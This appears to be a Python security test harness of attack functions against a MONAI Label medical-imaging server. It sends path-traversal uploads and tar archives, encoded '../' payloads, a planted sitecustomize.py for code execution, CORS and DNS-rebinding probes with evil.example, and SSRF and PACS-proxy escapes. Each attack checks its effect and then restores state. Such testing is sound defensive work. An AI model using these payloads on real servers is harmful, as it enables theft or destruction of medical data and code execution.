"""Attacks on a MONAI Label server: each is a function that tries one and returns whether it had its effect.

``ATTACKS`` lists them and ``try_attack`` runs one. A ``Target`` describes the attacked server and the files on this
machine in which effects are visible. Attacks restore what they have changed, so that the next one can be tried.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import secrets
import shutil
import struct
import tarfile
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from enum import Enum
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote, urlencode

import requests

SECRET_SHAPE = (19, 23, 29)
"""Shape (I, J, K) of the secret image, which no server serves: an answer of this shape was made from it."""

EVIL = "http://evil.example"


class Site(Enum):
    """What a server must serve for an attack to be possible."""

    FOLDER = "a folder of studies"
    PACS = "a PACS"
    USERS = "a folder of studies, for users who sign in"


@dataclass
class Target:
    """An attacked server.

    Attributes:
        address: URL of the server, without a slash at its end.
        images: folder with the images of the server: the studies, or the cache of a PACS.
        outside: a folder that the server must not access; it holds ``secret.nii.gz``, see ``write_volume``, and a
            folder ``secret`` with a file in it.
        weights: file of the model's weights.
        image: name of an image of the studies.
        other_image: name of another image of the studies, which has a final label.
        model: name of a model.
        other_model: name of another model, whose answers differ.
        click: params that the first model requires.
        token: token of an admin, or "" if the server has no users.
        annotator: token of an annotator, or "".
        replies: replies to the requests of the attacks.
        users: tokens by user name, if users sign in: ``admin``, ``trainer``, ``annotator`` and ``other``, who is an
            annotator.
        folder: holds everything that the server writes: ``adapters``, ``studies`` and ``server.log``.
        process_id: id of the server's process.
    """

    address: str
    images: Path
    outside: Path
    weights: Path
    image: str
    other_image: str
    model: str
    other_model: str
    click: Mapping[str, object]
    token: str = ""
    annotator: str = ""
    replies: list[requests.Response] = field(default_factory=list)
    users: Mapping[str, str] = field(default_factory=dict)
    folder: Path = Path()
    process_id: int = 0

    def request(
        self, method: str, path: str, query: Mapping[str, str] | None = None, **sent: object
    ) -> requests.Response:
        """Send a request of an attack and record the reply; dots and escapes in the path are sent unchanged."""
        self.replies.append(self.inspect(method, path, query, **sent))
        return self.replies[-1]

    def inspect(
        self, method: str, path: str, query: Mapping[str, str] | None = None, **sent: object
    ) -> requests.Response:
        """Send a legitimate request, to see the effect of an attack; ``token`` replaces the target's token."""
        token = sent.pop("token", self.token)
        headers = {**({"Authorization": f"Bearer {token}"} if token else {}), **sent.pop("headers", {})}  # type: ignore[dict-item]
        prepared = requests.Request(method, self.address, headers=headers, **sent).prepare()  # type: ignore[arg-type]
        prepared.url = f"{self.address}{path}" + (f"?{urlencode(query)}" if query else "")
        with requests.Session() as session:
            return session.send(prepared, timeout=120, allow_redirects=False)

    def infer(self, query: Mapping[str, str], **params: object) -> requests.Response:
        """Request a mask from the first model, as an uncompressed NRRD file."""
        params = {**self.click, "result_extension": ".nrrd", "result_compress": False, **params}
        sent = {"output": "image", **query}
        return self.request("POST", f"/infer/{self.model}", sent, data={"params": json.dumps(params)})

    @property
    def secret(self) -> Path:
        return self.outside / "secret.nii.gz"

    def has_outside(self, content: bytes) -> bool:
        """Check whether the outside folder has a file with this content."""
        return any(file.is_file() and file.read_bytes() == content for file in self.outside.rglob("*"))


@dataclass(frozen=True)
class Attack:
    """An attack.

    Attributes:
        name: name of the function.
        description: a sentence that describes the attack.
        site: the kind of server that it needs.
        attempt: the function, which returns whether the attack succeeded.
        not_on_stock: why it fails on an unmodified MONAI Label 0.8.5, or "" if it succeeds there.
        silently_ignored: whether a safe server ignores the malicious part of the request instead of refusing it.
    """

    name: str
    description: str
    site: Site
    attempt: Callable[[Target], bool]
    not_on_stock: str = ""
    silently_ignored: bool = False


@dataclass(frozen=True)
class Result:
    """The result of an attack.

    Attributes:
        succeeded: whether the attack had its effect.
        replies: the server's replies.
    """

    succeeded: bool
    replies: tuple[requests.Response, ...]


ATTACKS: list[Attack] = []


def try_attack(attack: Attack, target: Target) -> Result:
    """Run an attack."""
    target.replies.clear()
    return Result(attack.attempt(target), tuple(target.replies))


def attack(
    site: Site, not_on_stock: str = "", silently_ignored: bool = False
) -> Callable[[Callable[[Target], bool]], Callable[[Target], bool]]:
    def register(attempt: Callable[[Target], bool]) -> Callable[[Target], bool]:
        description = (attempt.__doc__ or "").partition("\n")[0]
        ATTACKS.append(Attack(attempt.__name__, description, site, attempt, not_on_stock, silently_ignored))
        return attempt

    return register


# Files are written where they must not be.


@attack(Site.FOLDER)
def image_outside(target: Target) -> bool:
    """Upload an image under a name that leads out of the studies."""
    content = _new_content()
    target_path = target.outside / _new_name()
    for path in ("/datastore/image", "/datastore/"):
        for name in (os.path.relpath(target_path, target.images), str(target_path)):
            target.request("PUT", path, {"image": name}, files={"file": ("x.nii.gz", content)})
    return target.has_outside(content)


@attack(Site.FOLDER)
def label_outside(target: Target) -> bool:
    """Upload a label with a tag that leads out of the studies."""
    content = _new_content()
    target_path = target.outside / _new_name()
    for tag in (os.path.relpath(target_path, target.images / "labels" / "final"), str(target_path)):
        query = {"image": target.image, "tag": tag}
        target.request("PUT", "/datastore/label", query, files={"label": ("x.nii.gz", content)})
    return target.has_outside(content)


@attack(Site.FOLDER)
def archive_outside(target: Target) -> bool:
    """Open a session with an archive whose files lead out of the folder in which it is extracted."""
    content = _new_content()
    target_path = target.outside / _new_name()
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name in (str(target_path), "../" * 12 + str(target_path)[1:]):
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    for yes in ("true", "on", "1"):
        target.request("PUT", "/session/", {"uncompress": yes}, files={"files": ("x.tar", packed.getvalue())})
    return target.has_outside(content)


@attack(Site.FOLDER, silently_ignored=True)
def answer_outside(target: Target) -> bool:
    """Have a mask saved as a label with a tag that leads out of the studies."""
    target_path = target.outside / _new_name()
    for tag in (os.path.relpath(target_path, target.images / "labels"), str(target_path)):
        target.infer({"image": target.image}, save_label=True, label_tag=tag)
        target.infer({"image": target.image}, label_tag=tag, image_id=tag)
    return target_path.exists()


@attack(
    Site.FOLDER,
    not_on_stock="The extension follows a random name, so that the path begins in a folder that does not exist.",
    silently_ignored=True,
)
def extension_outside(target: Target) -> bool:
    """Have a mask written to a file whose extension leads to another folder."""
    target_path = target.outside / f"{_new_name()}.nrrd"
    target.infer({"image": target.image}, result_extension="/../" + os.path.relpath(target_path, "/tmp"))  # noqa: S108
    return target_path.exists()


@attack(Site.FOLDER)
def code_through_training(target: Target) -> bool:
    """Upload Python code as an image, and have the training's process import it."""
    name = _new_name()
    program = target.images / "sitecustomize.py"
    code = f"open({str(target.outside / name)!r}, 'w').close()\n".encode()
    target.request("PUT", "/datastore/image", {"image": program.stem}, files={"file": ("x.py", code)})
    if not program.exists():  # The upload was refused; check whether the training would import the file.
        program.write_bytes(code)
    reply = target.request("POST", f"/train/{target.model}", json={"bundle_path": str(target.images)})
    succeeded = reply.ok and _wait_until(30, (target.outside / name).exists)
    _stop_training(target, reply)
    program.unlink()
    return succeeded


@attack(Site.FOLDER)
def folder_removed(target: Target) -> bool:
    """Have a folder mistaken for a session without its image, so that the server removes it."""
    victim = target.outside / _new_name()
    victim.mkdir()
    (victim / "images").write_bytes(b"somebody's")
    content = json.dumps({"name": "x", "path": "x", "image": "/nowhere", "meta": {}}).encode()
    query = {"image": os.path.relpath(victim / "meta", target.images)}
    target.request("PUT", "/datastore/image", query, files={"file": ("x.info", content)})
    if not (victim / "meta.info").exists():
        (victim / "meta.info").write_bytes(content)
    target.infer({"session_id": str(victim)})
    target.request("DELETE", f"/session/{quote(str(victim), safe='')}")
    succeeded = not victim.exists()
    shutil.rmtree(victim, ignore_errors=True)
    return succeeded


# Data is read that must not be.


@attack(Site.FOLDER)
def infer_on_a_path(target: Target) -> bool:
    """Segment a file outside the studies, by its path."""
    paths = (str(target.secret), os.path.relpath(target.secret, target.images), f"file://{target.secret}")
    return any(_is_of_secret(target.infer({"image": path})) for path in paths)


@attack(Site.FOLDER, silently_ignored=True)
def params_name_another_image(target: Target) -> bool:
    """Request a mask of one image, and give the path of another in the params."""
    secret = str(target.secret)
    return any(_is_of_secret(target.infer({"image": target.image}, image=named)) for named in (secret, [secret]))


@attack(Site.FOLDER, silently_ignored=True)
def params_name_another_model(target: Target) -> bool:
    """Send a request to one model, and name another in the params."""

    def answered(model: str, params: Mapping[str, object]) -> tuple[object, ...]:
        data = {"params": json.dumps({**target.click, **params})}
        reply = target.request("POST", f"/infer/{model}", {"image": target.image, "output": "json"}, data=data)
        content = reply.json() if reply.ok else {}
        return reply.ok, sorted(content), content.get("label_names")

    one, other = answered(target.model, {}), answered(target.other_model, {})
    return one != other and answered(target.model, {"model": target.other_model}) == other


@attack(
    Site.FOLDER,
    not_on_stock="The datastore of a folder finds names only in its list, which holds only files that it added itself.",
)
def image_by_path(target: Target) -> bool:
    """Fetch a file outside the studies as an image, by its path."""
    return _fetches_secret(target, "image", {})


@attack(
    Site.FOLDER,
    not_on_stock="The datastore of a folder finds names only in its list, which holds only files that it added itself.",
)
def label_by_path(target: Target) -> bool:
    """Fetch a file outside the studies as a label, by its path or by its tag."""
    where = os.path.relpath(target.outside, target.images / "labels")
    with_tags = (_fetches_secret(target, "label", {"tag": tag}) for tag in ("final", where, str(target.outside)))
    by_tag = (
        _is_secret(target, target.request("GET", "/datastore/label", {"label": "secret", "tag": tag}))
        for tag in (where, str(target.outside))
    )
    return any([*with_tags, *by_tag])


@attack(Site.PACS)
def image_of_another_cache(target: Target) -> bool:
    """Fetch an image that does not come from the server's PACS, by its path."""
    return _fetches_secret(target, "image", {})


@attack(Site.FOLDER, not_on_stock="By accident: slashes of the path become colons. A library serves the other pages.")
def file_through_the_pages(target: Target) -> bool:
    """Fetch a file by a path below the viewers' pages."""
    steps = ("..%2f", "%2e%2e/", "..%252f", "..%5c", "../")
    paths = [f"{page}/{step * 12}{str(target.secret)[1:]}" for page in ("/ohif", "/static") for step in steps]
    paths += [f"/ohif/{quote(str(target.secret), safe='')}", f"/static/{target.secret}"]
    return any(_is_secret(target, target.request("GET", path)) for path in paths)


@attack(Site.FOLDER)
def weights_taken(target: Target) -> bool:
    """Download the model's weights."""
    return target.request("GET", f"/model/{target.model}").content == target.weights.read_bytes()


@attack(Site.FOLDER)
def logs_read(target: Target) -> bool:
    """Read the server's log, which contains image names."""
    replies = [target.request("GET", path, {"text": "true"}) for path in ("/logs/", "/logs")]
    return any(reply.ok and target.image in reply.text for reply in replies)


@attack(Site.FOLDER, not_on_stock="The image readers open files only, not URLs.")
def server_asks_an_address(target: Target) -> bool:
    """Have the server fetch an image from an address that only the server can reach."""
    with _recording_server() as (address, paths):
        image = f"{address}/x.nii.gz"
        target.infer({"image": image})
        target.request("GET", "/datastore/image", {"image": image})
        target.infer({"session_id": image})
        return bool(paths)


# Files are changed or removed that must not be.


@attack(Site.FOLDER)
def weights_replaced(target: Target) -> bool:
    """Replace the model's weights."""
    before, content = target.weights.read_bytes(), _new_content()
    target.request("PUT", f"/model/{target.model}", files={"file": (target.weights.name, content)})
    succeeded = target.weights.read_bytes() == content
    target.weights.write_bytes(before)
    return succeeded


@attack(Site.FOLDER)
def weights_removed(target: Target) -> bool:
    """Remove the model's weights."""
    return _removes(target, target.weights, f"/model/{target.model}", {})


@attack(Site.FOLDER)
def label_replaced_by_junk(target: Target) -> bool:
    """Replace a label by random bytes."""
    before, content = _label(target).read_bytes(), _new_content()
    query = {"image": target.other_image, "tag": "final"}
    target.request("PUT", "/datastore/label", query, files={"label": ("x.nii.gz", content)})
    succeeded = _label(target).read_bytes() == content
    if succeeded:
        _label(target).write_bytes(before)
    return succeeded


@attack(Site.FOLDER)
def label_removed(target: Target) -> bool:
    """Remove a label."""
    return _removes(target, _label(target), "/datastore/label", {"id": target.other_image, "tag": "final"})


@attack(Site.FOLDER)
def image_replaced(target: Target) -> bool:
    """Upload another image under the name of an existing one."""
    file = target.images / f"{target.other_image}.nii.gz"
    before = file.read_bytes()
    sent = {"file": ("x.nii.gz", target.secret.read_bytes())}
    target.request("PUT", "/datastore/image", {"image": target.other_image}, files=sent)
    succeeded = file.read_bytes() != before
    if succeeded:
        file.write_bytes(before)
    return succeeded


@attack(Site.FOLDER)
def image_removed(target: Target) -> bool:
    """Remove an image of the studies."""
    label = _label(target).read_bytes()
    file = target.images / f"{target.other_image}.nii.gz"
    succeeded = _removes(target, file, "/datastore/image", {"id": target.other_image})
    if not _label(target).exists():
        _label(target).write_bytes(label)
    return succeeded


@attack(Site.FOLDER)
def reload_without_a_role(target: Target) -> bool:
    """Have the server discard the application and build it again at the next request."""
    return target.request("POST", "/reload").ok


# Web pages of another origin make a browser send requests.


@attack(Site.FOLDER)
def foreign_page_reads(target: Target) -> bool:
    """Have a page of another origin read the server's answers with the user's credentials."""
    return any(
        _allows_origin(target.request("GET", "/datastore/", {"output": "all"}, headers={"Origin": origin}), origin)
        for origin in (EVIL, "null")
    )


@attack(Site.FOLDER)
def foreign_page_may_remove(target: Target) -> bool:
    """Send the preflight request of a page of another origin that wants to remove images."""
    headers = {"Origin": EVIL, "Access-Control-Request-Method": "DELETE"}
    return _allows_origin(target.request("OPTIONS", "/datastore/image", {"id": target.image}, headers=headers), EVIL)


@attack(Site.FOLDER)
def foreign_page_starts_training(target: Target) -> bool:
    """Start a training from a page of another origin, with a form that browsers send without a preflight request."""
    reply = target.request("POST", f"/train/{target.model}", headers={"Origin": EVIL, "Content-Type": "text/plain"})
    succeeded = reply.ok and target.inspect("GET", "/train/").ok
    _stop_training(target, reply)
    return succeeded


@attack(Site.FOLDER)
def name_that_means_this_machine(target: Target) -> bool:
    """Read from a page whose host name now resolves to this machine (DNS rebinding), so that its origin is the same."""
    headers = {"Host": "evil.example:8000", "Origin": f"{EVIL}:8000"}
    reply = target.request("GET", "/datastore/", {"output": "all"}, headers=headers, token="")
    return reply.ok and target.image in reply.text


# Attacks on the PACS behind the server, and on roles.


_OUT_OF_DICOMWEB = ("..%2f", "%2e%2e/", "../", "studies/..%2f..%2f", "..%252f", "studies/%2e%2e/%2e%2e/")


@attack(Site.PACS)
def pacs_own_api(target: Target) -> bool:
    """Reach the PACS's own API through the DICOMweb proxy."""
    paths = [
        f"/proxy/dicom/{kind}{step}system" for kind in ("", "wado/", "qido/", "stow/") for step in _OUT_OF_DICOMWEB
    ]
    return any("DicomAet" in target.request("GET", path).text for path in paths)


@attack(Site.PACS)
def pacs_own_api_by_post(target: Target) -> bool:
    """List all patients through the PACS's own API, by a POST request."""
    content = json.dumps({"Level": "Patient", "Query": {}}).encode()
    paths = [f"/proxy/dicom/{kind}{step}tools/find" for kind in ("", "stow/") for step in _OUT_OF_DICOMWEB]
    return any(_is_list(target.request("POST", path, data=content)) for path in paths)


@attack(Site.PACS)
def pacs_other_servers(target: Target) -> bool:
    """Reach the part of the PACS's DICOMweb that forwards images to other servers."""
    return any(_is_list(target.request("GET", f"/proxy/dicom/{kind}servers")) for kind in ("", "wado/", "qido/"))


@attack(Site.PACS)
def without_signing_in(target: Target) -> bool:
    """List the PACS's studies without signing in."""
    paths = ("/proxy/dicom/studies", "/proxy/dicom/qido/studies")
    return any(_is_list(target.request("GET", path, token="")) for path in paths)


@attack(Site.PACS)
def training_without_a_role(target: Target) -> bool:
    """Start a training as an annotator, and without a token."""
    succeeded = False
    for token in (target.annotator, ""):
        reply = target.request("POST", f"/train/{target.model}", json={}, token=token)
        succeeded = succeeded or reply.ok
        _stop_training(target, reply)
    return succeeded


def write_volume(path: Path) -> None:
    """Write the secret image as NIfTI: (I, J, K) = ``SECRET_SHAPE``, 1 mm, in RAS."""
    header = bytearray(352)
    struct.pack_into("<i", header, 0, 348)
    struct.pack_into("<8h", header, 40, 3, *SECRET_SHAPE, 1, 1, 1, 1)
    struct.pack_into("<2h", header, 70, 4, 16)  # 16-bit integers.
    struct.pack_into("<8f", header, 76, 1, 1, 1, 1, 1, 1, 1, 1)
    struct.pack_into("<f", header, 108, 352)
    struct.pack_into("<2f", header, 112, 1, 0)
    struct.pack_into("<2h", header, 252, 0, 1)
    for row, offset in enumerate((280, 296, 312)):
        struct.pack_into("<4f", header, offset, *(float(row == column) for column in range(3)), 0)
    header[344:348] = b"n+1\0"
    voxels = SECRET_SHAPE[0] * SECRET_SHAPE[1] * SECRET_SHAPE[2]
    path.write_bytes(gzip.compress(bytes(header) + struct.pack(f"<{voxels}h", *(n % 200 for n in range(voxels)))))


def _new_name() -> str:
    return f"attack-{secrets.token_hex(8)}"


def _new_content() -> bytes:
    return secrets.token_bytes(64)


def _label(target: Target) -> Path:
    return target.images / "labels" / "final" / f"{target.other_image}.nii.gz"


def _is_secret(target: Target, reply: requests.Response) -> bool:
    return reply.content == target.secret.read_bytes()


def _is_of_secret(reply: requests.Response) -> bool:
    """Check whether an answer is a mask of the secret image, as NRRD."""
    return b"sizes: %d %d %d\n" % SECRET_SHAPE in reply.content[:1000]


def _fetches_secret(target: Target, what: str, query: Mapping[str, str]) -> bool:
    target_path = target.outside / "secret"
    names = [str(target_path), os.path.relpath(target_path, target.images), str(target.secret)]
    return any(_is_secret(target, target.request("GET", f"/datastore/{what}", {what: name, **query})) for name in names)


def _is_list(reply: requests.Response) -> bool:
    try:
        return reply.ok and isinstance(reply.json(), list)
    except ValueError:
        return False


def _allows_origin(reply: requests.Response, origin: str) -> bool:
    allowed = reply.headers.get("Access-Control-Allow-Origin")
    return allowed == origin and reply.headers.get("Access-Control-Allow-Credentials") == "true"


def _removes(target: Target, file: Path, path: str, query: Mapping[str, str]) -> bool:
    before = file.read_bytes()
    target.request("DELETE", path, query)
    succeeded = not file.exists()
    if succeeded:
        file.write_bytes(before)
    return succeeded


def _wait_until(seconds: float, condition: Callable[[], bool]) -> bool:
    end = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > end:
            return False
        time.sleep(0.25)
    return True


def _stop_training(target: Target, started: requests.Response) -> None:
    """Stop a training that an attack has started; retries, because it cannot be stopped right after its start."""
    if started.ok:
        _wait_until(30, lambda: target.inspect("DELETE", "/train/").ok)


@contextmanager
def _recording_server() -> Iterator[tuple[str, list[str]]]:
    """Run a server on this machine; yields its address and the paths that are requested."""
    paths: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", paths
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
